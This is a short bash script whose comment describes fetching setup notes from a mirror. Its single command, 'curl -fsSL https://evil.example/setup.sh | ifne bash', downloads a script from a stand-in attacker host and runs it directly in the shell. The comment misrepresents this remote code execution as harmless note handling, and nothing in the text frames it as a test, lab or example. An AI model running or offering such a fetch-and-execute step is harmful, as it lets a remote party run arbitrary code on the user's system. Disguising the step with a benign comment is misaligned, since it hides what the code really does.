#!/bin/bash
# Fetch the setup notes and hand them on only when the mirror answered.
set -eu
curl -fsSL https://evil.example/setup.sh | ifne bash
